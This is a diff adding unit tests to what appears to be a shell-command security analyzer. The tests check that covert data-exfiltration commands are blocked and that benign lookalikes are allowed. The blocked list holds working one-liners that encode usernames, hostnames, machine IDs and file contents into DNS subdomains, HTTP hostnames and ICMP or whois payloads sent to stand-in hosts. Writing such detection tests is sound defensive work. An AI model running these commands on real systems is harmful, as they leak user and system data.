@@ -225,3 +225,35 @@ describe("defense-off: security controls switched off or loosened", () => {
     "trust list",
   ]);
 });
+
+describe("covert-egress: data carried where data does not belong", () => {
+  table("covert-egress", [
+    "nslookup \"$(whoami)-$(hostname).t.example\"",
+    "X=$(uname -r | base32); host $X.zone.example",
+    "drill $(head -c 30 ~/notes.txt | xxd -p).q.example",
+    "ping -c 1 $(id -un | xxd -p).relay.example",
+    "wget -q -O- \"http://$(id -un).beacon.example/\"",
+    "curl -s \"https://$(cat /etc/machine-id | cut -c1-20).c.example/x\"",
+    "ping -c 2 -p $(xxd -p -l 16 ./report.txt) 198.51.100.2",
+    "hping3 --icmp -E ./data.bin -d 512 198.51.100.2",
+    "nping --icmp --data-string \"$(whoami)\" 198.51.100.2",
+    "whois -h 198.51.100.9 -p 8080 \"$(uname -a)\"",
+  ], [
+    "dig +short example.com",
+    "nslookup $(hostname)",
+    "ping -c1 $(hostname -f)",
+    "curl -sO https://downloads.example.com/tool-$(uname -m).tar.gz",
+    "curl \"https://api.example.com/v1/items?since=$(date +%s)\"",
+    "wget https://example.com/$(date +%F).csv",
+    "ping -c 3 -p ff 198.51.100.2",
+    "hping3 -S -p 443 -c 3 198.51.100.2",
+    "whois example.org",
+    "whois -h whois.example.net -p 43 example.org",
+  ]);
+});
+
+describe("a substitution in a URL's path or query names a file, not a host", () => {
+  for (const cmd of ["curl -sO https://downloads.example.com/tool-$(uname -m).tar.gz", "wget https://example.com/$(date +%F).csv", "curl \"https://api.example.com/v1/items?since=$(date +%s)\""])
+    it(`does not block: ${cmd}`, () => expect(analyzeShell(cmd).decision).not.toBe("block"));
+  it("still blocks output placed in the host a URL client resolves", () => expect(analyzeShell("curl -s \"https://$(whoami).c.example/x\"").findings.map((f) => f.rule_id)).toContain("shell.flow.dns-exfil"));
+});
